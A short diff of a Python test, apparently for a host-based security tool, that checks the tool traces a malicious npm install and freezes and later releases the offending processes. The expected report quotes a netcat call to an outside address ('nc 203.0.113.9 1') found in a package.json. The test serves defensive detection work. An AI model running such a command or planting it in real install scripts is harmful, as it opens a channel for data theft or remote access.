@@ -115,7 +115,7 @@ def test_an_installation_is_stopped_on_a_host(booted_host: Host, tell: Tell) -> 
     with tell(Spot(host).fields(pid), rule=NPM, host=host) as report:
         report.look("Which package brings", shows=["evil/package.json:3:", "nc 203.0.113.9 1"], seconds=90)
         report.looks(shows="tail -f", seconds=60)
-        report.contain("freeze them", state=lambda: [host.state(npm), host.state(pid)], becomes=["T", "T"])
+        report.contain("Freeze the running", state=lambda: [host.state(npm), host.state(pid)], becomes=["T", "T"])
         assert host.state(other) == "S", "a bystander was stopped"
         assert (Spot(host).evidence / report.uid / f"{pid}.exe").exists()
         report.undo(state=lambda: [host.state(npm), host.state(pid)], becomes=["S", "S"])
